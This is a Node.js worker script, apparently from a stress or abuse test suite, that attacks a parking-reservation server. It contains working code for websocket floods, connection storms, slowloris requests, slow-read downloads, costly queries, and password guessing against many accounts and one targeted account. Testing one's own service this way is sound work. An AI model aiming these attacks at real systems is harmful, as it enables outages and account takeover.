// One attacker with its own thread and address, until the thread is ended.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { workerData } from 'node:worker_threads';
import { CARRIER, WRONG, logIn, logInWorking } from './logins.mjs';
import { tomorrow } from './stores.mjs';

const { attack, url, localAddress, token, ownerToken, victim, own } = workerData;
const { hostname, port } = new URL(url);
/** Of an attacker who opens as many as a network may. */
const CONNECTIONS = 1000;

/** Opens so many connections, each again a moment after it ends. */
function connectTimes(count, open) {
  const again = () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    socket.on('error', () => undefined);
    socket.on('close', () => setTimeout(again, 50));
    socket.on('connect', () => open(socket));
  };
  for (let n = 0; n < count; n += 1) again();
}

/** A frame of a WebSocket as a client sends it, masked with zeros. */
function frame(text) {
  const length = Buffer.byteLength(text);
  const short = length < 126;
  const head = short ? [0x80 | length] : [0x80 | 126, length >> 8, length & 0xff];
  return Buffer.concat([Buffer.from([0x81, ...head, 0, 0, 0, 0]), Buffer.from(text)]);
}

const UPGRADE = `GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nhost: ${hostname}:${port}\r
connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r
sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`;
const FLOOD = Buffer.concat(Array.from({ length: 500 }, (_, n) => frame(`40/nada${n},`)));

/** Asks for unknown namespaces as fast as the connection takes it, and never reads an answer. */
const flooding = (greeting) => (socket) => {
  const pour = () => {
    while (!socket.destroyed && socket.write(FLOOD));
  };
  socket.pause();
  socket.write(UPGRADE);
  if (greeting) socket.write(frame(greeting));
  socket.on('drain', pour);
  setTimeout(pour, 200);
};

/** One call; resolves when its answer has been read in whole, or failed. */
function ask(path, { read = (answer) => answer.resume(), ...options }) {
  return new Promise((done) => {
    const sent = request(url, { path, localAddress, ...options }, (answer) =>
      read(answer).on('close', done),
    );
    sent.on('error', done);
    sent.end();
  });
}

/** Runs `count` tasks at once and repeats each, without end. */
function forever(count, run) {
  for (let client = 0; client < count; client += 1)
    void (async () => {
      for (let n = 0; ; n += 1) await run(n, client);
    })();
}

/** Reads every list of a driver or of an owner by turns. */
function readLists(clients, paths, headers) {
  const agent = new Agent({ keepAlive: true });
  const sent = { 'accept-encoding': 'br', ...headers };
  forever(clients, (n) => ask(`/api/${paths[n % paths.length]}`, { agent, headers: sent }));
}
const OF_DRIVER =
  'documents/stays?limit=500 documents/confirmaciones documents/booking documents/parkings';
const OF_OWNER = 'parking/reservations parking/reservations?page=5 parking/my-parkings'.split(' ');
const asOwner = { authorization: ownerToken };
const asSheet = { ...asOwner, accept: 'text/csv' };

const ATTACKS = {
  sockets() {
    connectTimes(20, flooding(`40${JSON.stringify({ token })}`));
    connectTimes(100, flooding());
  },
  /** Invalid tokens; who is refused connects again. */
  junk() {
    connectTimes(CONNECTIONS, (socket) => {
      socket.write(UPGRADE);
      socket.write(frame('40{"token":"x.y.z"}'));
      let received = '';
      socket.on('data', (chunk) => {
        received += chunk;
        // Socket.IO's refusal of the connection.
        if (received.includes('44{')) socket.destroy();
      });
    });
  },
  /** The headers of a login and then one byte a second. */
  slow() {
    const head = `POST /api/session/login HTTP/1.1\r\nhost: ${hostname}:${port}\r\n`;
    connectTimes(CONNECTIONS, (socket) => {
      socket.write(`${head}content-type: application/json\r\ncontent-length: 1000\r\n\r\n{`);
      const timer = setInterval(() => socket.write(' '), 1000);
      socket.on('close', () => clearInterval(timer));
    });
  },
  /** Most parkings, longest stay, sorted; every other one with words. */
  expensive() {
    const agent = new Agent({ keepAlive: true });
    const stay = `start_time=${tomorrow(0)}&end_time=${tomorrow(30 * 24)}`;
    const path = `/api/parking/available?near=14.6,-90.5&${stay}`;
    forever(50, (n) =>
      ask(n % 2 ? `${path}&search=a+e+q+u+v+0` : path, {
        agent,
        headers: { authorization: token },
      }),
    );
  },
  lists: () => readLists(12, OF_DRIVER.split(' '), { authorization: token }),
  sheets() {
    readLists(12, OF_OWNER, asOwner);
    // The server produces two spreadsheets at a time at most.
    readLists(2, OF_OWNER.slice(0, 1), asSheet);
  },
  /** Spreadsheets of which some kilobytes are taken each second. */
  csv() {
    const read = (answer) => {
      const timer = setInterval(() => answer.read(4096), 1000);
      return answer.once('close', () => clearInterval(timer));
    };
    const sheet = { agent: false, headers: asSheet, read };
    forever(50, () => ask('/api/parking/reservations', sheet));
  },
  /**
   * Passwords at many accounts from one carrier's address; at one account from everywhere, as fast as possible and
   * with the proofs that refusals demand; from one site; and logins of many known devices of the guesser.
   */
  guesses() {
    const guess = (mail, address) => ({ mail, address, password: WRONG });
    let n = 0;
    setInterval(() => {
      n += 1;
      void logIn(url, guess(`nadie${n}@ejemplo.gt`, CARRIER));
      void logIn(url, guess(victim, `198.51.${n % 200}.7`));
    }, 100);
    // Each from its own network within the site.
    forever(60, (_, place) =>
      logIn(url, guess(`sitio${place}.${n}@ejemplo.gt`, `2001:db8:77:${place.toString(16)}::1`)),
    );
    // Each proof costs a tenth of a second of a core.
    forever(2, (_, place) => logInWorking(url, guess(victim, `198.52.${n % 200}.${place}`)));
    // The right passwords, so that no failure counts against the devices.
    forever(own.length, (_, place) => logIn(url, { ...own[place], address: CARRIER }));
  },
};
ATTACKS[attack]();
